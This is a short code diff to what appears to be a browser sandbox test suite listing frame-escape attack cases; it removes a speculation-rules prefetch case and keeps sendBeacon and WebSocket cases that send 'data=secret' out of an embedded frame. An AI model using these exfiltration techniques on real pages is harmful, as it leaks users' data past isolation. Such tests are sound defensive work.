@@ -74,13 +74,6 @@ export const frameLeaks: readonly Attack[] = [
   ),
   navigation("sendBeacon from the frame", `navigator.sendBeacon(http + "/beacon?data=secret", "x");`),
   navigation("WebSocket from the frame", `new WebSocket(webSocket + "/socket?data=secret");`),
-  navigation(
-    "speculation",
-    `const rules = document.createElement("script");
-     rules.type = "speculationrules";
-     rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [http + "/speculation?data=secret"], eagerness: "immediate" }] });
-     document.head.append(rules);`,
-  ),
 ];
 
 /** Attempts to touch the page around the frame; each returns "touched" when it could. */
